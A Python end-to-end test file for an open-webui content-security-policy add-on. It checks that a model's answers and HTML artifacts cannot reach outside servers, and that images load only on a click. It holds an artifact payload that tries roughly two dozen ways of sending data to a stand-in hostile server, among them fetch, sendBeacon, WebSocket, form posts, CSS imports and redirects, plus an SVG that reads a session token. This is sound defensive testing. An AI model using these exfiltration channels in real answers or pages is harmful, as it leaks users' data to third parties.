"""What an answer brings into the page asks this server and nobody else, until somebody clicks.

A server elsewhere notes what it is asked for: the words that an answer would carry out. What it is
asked under no policy (``TEE_PAGE_SOURCES=off``) shows that the same answer does carry them out.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, FrameLocator, Locator, expect

from e2e.browser import ChatPage, tee_settings
from e2e.elsewhere import HEIGHT, WIDTH, Elsewhere, elsewhere
from e2e.stack import Backend, ask, wait_until

pytestmark = pytest.mark.once("source")

OpenChat = Callable[..., ChatPage]
StartBackend = Callable[..., Backend]

OFF = tee_settings(enabled=False)
# Every violation of a page and its frames, in the words of the test.
WATCH = """
addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
    console.info(`violation: ${effectiveDirective} ${blockedURI}`);
});
"""
# Ways out of an artifact. Each names itself in what it asks for; nothing waits for an answer.
ARTIFACT = """<!doctype html>
<html><head>
<link rel="stylesheet" href="ELSEWHERE/stylesheet?words">
<link rel="prefetch" href="ELSEWHERE/prefetch?words">
<link rel="preload" as="image" href="ELSEWHERE/preload?words">
<link rel="modulepreload" href="ELSEWHERE/modulepreload?words">
<style>
@import url(ELSEWHERE/import?words);
@font-face { font-family: x; src: url(ELSEWHERE/font?words); }
body { font-family: x; background: url(ELSEWHERE/background?words); }
</style>
</head><body>
Words
<img src="ELSEWHERE/img?words">
<video src="ELSEWHERE/video?words"></video>
<object data="ELSEWHERE/object?words"></object>
<embed src="ELSEWHERE/embed?words">
<iframe src="ELSEWHERE/frame?words"></iframe>
<iframe srcdoc="<img src=ELSEWHERE/nested?words>"></iframe>
<iframe srcdoc="<meta http-equiv=refresh content='0;url=ELSEWHERE/refresh?words'>"></iframe>
<svg><image href="ELSEWHERE/svg?words"></image></svg>
<iframe name="target"></iframe>
<form action="ELSEWHERE/form?words" method="post" target="target"></form>
<iframe id="shows" src="/api/v1/tee/image"></iframe>
<iframe id="asks" src="/api/v1/tee/courier?origin=ELSEWHERE"></iframe>
<script src="ELSEWHERE/script?words"></script>
<script>
const url = (way) => `ELSEWHERE/${way}?words`;
const work = `importScripts('${url('import-scripts')}')`;
const ways = {
    fetch: () => fetch(url('fetch'), { method: 'POST', mode: 'no-cors', body: 'words' }),
    beacon: () => navigator.sendBeacon(url('beacon'), 'words'),
    xhr: () => { const x = new XMLHttpRequest(); x.open('GET', url('xhr')); x.send(); },
    socket: () => new WebSocket(url('socket').replace('https', 'wss')),
    events: () => new EventSource(url('events')),
    module: () => import(url('module')),
    worker: () => new Worker(URL.createObjectURL(new Blob([work]))),
    form: () => document.querySelector('form').submit(),
    open: () => window.open(url('open')),
    image: () => document.querySelector('#shows').contentWindow
        .postMessage({ address: url('image-frame'), alt: '' }, '*'),
    courier: () => document.querySelector('#asks').contentWindow.fetch(url('courier')),
    top: () => { top.location = url('top'); }
};
addEventListener('load', () => {
    for (const way of Object.values(ways)) {
        try { Promise.resolve(way()).catch(() => {}); } catch { /* not this way */ }
    }
    setTimeout(() => { document.documentElement.dataset.tried = ''; }, 1500);
});
</script>
</body></html>
"""
# What certainly gets out of an artifact under no policy; browsers may refuse others by themselves.
WAYS_OUT = {
    *("img", "background", "stylesheet", "import", "prefetch", "script", "svg", "nested"),
    *("frame", "form", "fetch", "beacon", "xhr", "video"),
}


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Elsewhere]:
    """A server of somebody else's."""
    with elsewhere(tmp_path_factory.mktemp("elsewhere")) as seen:
        yield seen


@pytest.fixture(scope="module")
def lax(start_backend: StartBackend) -> Backend:
    """open-webui whose administrator turned the policy off."""
    return start_backend("lax", {"TEE_PAGE_SOURCES": "off"})


@pytest.fixture
def open_answer(
    open_chat: OpenChat, evil: Elsewhere, model: str
) -> Iterator[Callable[..., ChatPage]]:
    """Open a chat in which the model answers something; nothing was asked elsewhere before."""

    def order(answer: str | None, delay: float) -> None:
        ask("POST", f"{model}/control", json={"answer": answer, "delay": delay})

    def watch(context: BrowserContext) -> None:
        context.add_init_script(WATCH)

    def open_page(backend: Backend, answer: str) -> ChatPage:
        evil.asked.clear()
        order(f"{answer.replace('ELSEWHERE', evil.url)}\n\nThat is all.", 0)
        chat = open_chat(backend, OFF, prepare=watch, ignore_https_errors=True)
        chat.send("Hello")
        chat.expect_reply("That is all.")
        order(None, 0)
        return chat

    yield open_page
    order(None, 0.05)


def violations(chat: ChatPage) -> list[str]:
    return [line for line in chat.console if "violation: " in line or "Security Policy" in line]


def placeholder(chat: ChatPage) -> Locator:
    return chat.page.get_by_test_id("tee-outside-image")


IMAGE = "See ![a picture](ELSEWHERE/pixel?q=words) here."


def test_an_outside_image_is_asked_for_on_a_click_and_not_before(
    bare: Backend, open_answer: Callable[..., ChatPage], evil: Elsewhere
) -> None:
    chat = open_answer(bare, IMAGE)
    box = placeholder(chat)
    expect(box).to_contain_text(f"An image from {evil.host} was not loaded.")
    expect(box).to_contain_text(f"{evil.url}/pixel?q=words")
    expect(box).to_contain_text("a picture")
    assert evil.asked == []

    evil.told.clear()
    chat.page.get_by_test_id("tee-load-image").click()
    frame = chat.page.get_by_test_id("tee-image-frame")
    image = frame.content_frame.locator("img")
    expect(image).to_have_js_property("naturalWidth", WIDTH)
    wait_until(
        lambda: (size := frame.bounding_box()) and (size["width"], size["height"]),
        "the frame of the image's size",
        seconds=10,
    )
    expect(frame).to_have_css("width", f"{WIDTH}px")
    expect(frame).to_have_css("height", f"{HEIGHT}px")
    assert evil.asked == ["GET /pixel?q=words"]
    # It learns nothing of the chat's address, and of nobody who is signed in.
    assert not {"referer", "cookie", "origin", "authorization"} & set(evil.told[0])
    assert chat.errors == []


def test_an_image_that_cannot_be_loaded_says_so(
    bare: Backend, open_answer: Callable[..., ChatPage], evil: Elsewhere
) -> None:
    chat = open_answer(bare, "See ![](ELSEWHERE/missing)")
    chat.page.get_by_test_id("tee-load-image").click()
    expect(placeholder(chat).get_by_role("alert")).to_contain_text("could not be loaded")


@pytest.mark.smoke
def test_nothing_gets_out_of_an_artifact(
    bare: Backend, open_answer: Callable[..., ChatPage], evil: Elsewhere
) -> None:
    chat = open_answer(bare, f"Look:\n\n```html\n{ARTIFACT}\n```\n")
    try_everything(chat)
    assert evil.asked == []
    assert chat.page.url.startswith(bare.url)
    assert len(chat.page.context.pages) == 1


def test_without_the_policy_the_same_artifact_carries_words_out(
    lax: Backend, open_answer: Callable[..., ChatPage], evil: Elsewhere
) -> None:
    chat = open_answer(lax, f"{IMAGE}\n\n```html\n{ARTIFACT}\n```\n")
    try_everything(chat)
    wait_until(lambda: WAYS_OUT | {"pixel"} <= ways(evil), "ways out", seconds=10)
    expect(placeholder(chat)).to_have_count(0)
    assert "TEE_PAGE_SOURCES=off" in lax.log()


def ways(evil: Elsewhere) -> set[str]:
    return {line.split("/")[1].split("?")[0] for line in evil.asked}


def artifact(chat: ChatPage) -> FrameLocator:
    """The frame of a chat's artifact, which opens by itself or by a button."""
    frame = chat.page.locator("iframe[title=Content]")
    preview = chat.page.get_by_role("button", name="Preview")
    expect(frame.or_(preview).first).to_be_visible()
    if not frame.is_visible():
        preview.first.click()
    return frame.content_frame


def try_everything(chat: ChatPage) -> None:
    """Wait until the artifact of a chat has tried all that it can."""
    expect(artifact(chat).locator("html[data-tried]")).to_be_attached(timeout=30_000)


def test_the_page_itself_asks_nobody_and_the_log_tells_once_whom_it_would_have_asked(
    bare: Backend, open_answer: Callable[..., ChatPage], evil: Elsewhere
) -> None:
    chat = open_answer(bare, "Hello")
    for _ in range(2):
        chat.page.evaluate(
            """async (url) => {
                await fetch(url + '/fetch').catch(() => {});
                navigator.sendBeacon(url + '/beacon', 'words');
                const form = document.body.appendChild(document.createElement('form'));
                Object.assign(form, { action: url + '/form', method: 'post', target: 'there' });
                const frame = document.body.appendChild(document.createElement('iframe'));
                frame.name = 'there';
                form.submit();
                const styled = document.body.appendChild(document.createElement('div'));
                styled.style.background = `url(${url}/background)`;
                styled.textContent = '.';
                document.body.appendChild(document.createElement('iframe')).src = url + '/frame';
            }""",
            evil.url,
        )
        chat.page.wait_for_timeout(500)
    told = wait_until(
        lambda: [line for line in bare.log().splitlines() if f"kept it from {evil.url}" in line],
        "a line in the log",
        seconds=10,
    )
    assert len(told) == 1
    assert "TEE_PAGE_SOURCES" in told[0]
    assert any("Security Policy" in line and evil.url in line for line in chat.console)
    assert evil.asked == []


def test_what_the_administrator_allows_is_loaded_at_once(
    start_backend: StartBackend, open_answer: Callable[..., ChatPage], evil: Elsewhere
) -> None:
    backend = start_backend(
        "allowing",
        {"TEE_PAGE_SOURCES": evil.url, "CONTENT_SECURITY_POLICY": "media-src 'none'"},
    )
    chat = open_answer(backend, IMAGE)
    image = chat.page.locator(f"img[src^='{evil.url}']").first
    expect(image).to_have_js_property("naturalWidth", WIDTH)
    expect(placeholder(chat)).to_have_count(0)
    # The administrator's own policy is there as well.
    headers = backend.call("GET", "/", token=None).headers.get_list("content-security-policy")
    assert headers[0] == "media-src 'none'"
    assert f"img-src 'self' data: blob: {evil.url}" in headers[1]
    backend.stop()


# What of open-webui has to go on


ANSWER = """Text with `code`, $x^2$ and

$$\\int_0^1 x\\,dx$$

```mermaid
graph TD; A-->B;
```

```python
import sys
print(6 * 7, "is printed")
```

```html
<!doctype html><html><head><style>body { background: url(data:image/gif;base64,R0lGOD) }</style>
</head><body><canvas></canvas><script>
eval("document.documentElement.dataset.ran = '1'");
window.worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
window.worker.onmessage = () => { document.documentElement.dataset.worked = '1'; };
</script></body></html>
```
"""


@pytest.mark.smoke
def test_the_app_is_as_before_and_breaks_no_policy(
    bare: Backend, open_answer: Callable[..., ChatPage], tmp_path: Path
) -> None:
    chat = open_answer(bare, ANSWER)
    page = chat.page
    expect(page.locator(".katex").first).to_be_visible()
    expect(page.locator("svg[id*=mermaid]").first).to_be_visible()

    if runs_python(bare):
        page.get_by_role("button", name="Run", exact=True).first.click()
        expect(page.get_by_text("42 is printed").last).to_be_visible(timeout=60_000)

    # Version 0.5.20 has an artifact's script run more than once.
    root = artifact(chat).locator("html")
    expect(root).to_have_attribute("data-ran", "1")
    expect(root).to_have_attribute("data-worked", "1")

    file = tmp_path / "notes.txt"
    file.write_text("A file with words")
    page.locator("input[type=file]").first.set_input_files(file)
    expect(page.get_by_text("notes.txt").first).to_be_visible()
    # While it turns, the app sends no message.
    expect(page.locator("form:has(#chat-input) [class*=spinner_]")).to_have_count(0)
    chat.send("Hello again.")
    chat.expect_reply("Hello again.")

    chat.open_settings()
    chat.close_settings()
    for path in ("/workspace/models", "/admin/settings", "/admin/users", "/playground", "/"):
        page.goto(bare.url + path)
        expect(page.get_by_role("button").first).to_be_visible()
        page.wait_for_timeout(1000)  # for what a page does when nobody waits for it
    outside = [line for line in violations(chat) if not expected(line)]
    assert outside == []
    assert [error for error in chat.errors if not reaches_for_an_artifact(error)] == []


def reaches_for_an_artifact(error: str) -> bool:
    """Stock pages reach into an artifact's frame once it is there, which has another origin now."""
    return "from accessing a cross-origin frame" in error


def runs_python(backend: Backend) -> bool:
    """Whether this front end has what Python in the browser needs: built offline, it lacks some."""
    return any((backend.spec.installation.front_end / "pyodide").glob("micropip-*.whl"))


def expected(violation: str) -> bool:
    """Whether open-webui itself asks elsewhere there: pictures of its makers."""
    return "img.shields.io" in violation


def test_documents_of_others_have_an_origin_of_their_own(
    bare: Backend, open_answer: Callable[..., ChatPage], evil: Elsewhere
) -> None:
    markup = "<svg xmlns='http://www.w3.org/2000/svg'><script>localStorage.token</script></svg>"
    html = f"<body><img src='{evil.url}/upload'><script>document.title = origin</script>"
    chat = open_answer(bare, "Hello")
    for name, kind, body in (
        ("a.svg", "image/svg+xml", markup),
        ("a.html", "text/html", html),
        ("a.xhtml", "application/xhtml+xml", html),
        ("a.xml", "text/xml", markup),
    ):
        files = {"file": (name, body, kind)}
        found = bare.call("POST", "/api/v1/files/?process=false", files=files).json()
        path = f"/api/v1/files/{found['id']}/content/html"
        answer = bare.call("GET", path)
        assert answer.status_code == 200, answer.text
        policy = answer.headers["content-security-policy"]
        assert policy.startswith("sandbox allow-scripts")
        assert "allow-same-origin" not in policy
        assert answer.headers["x-content-type-options"] == "nosniff"
        context = chat.page.context
        context.add_cookies([{"name": "token", "value": bare.token, "url": bare.url}])
        document = context.new_page()
        document.goto(bare.url + path)
        assert document.evaluate("origin") == "null"
        document.close()
    assert evil.asked == []
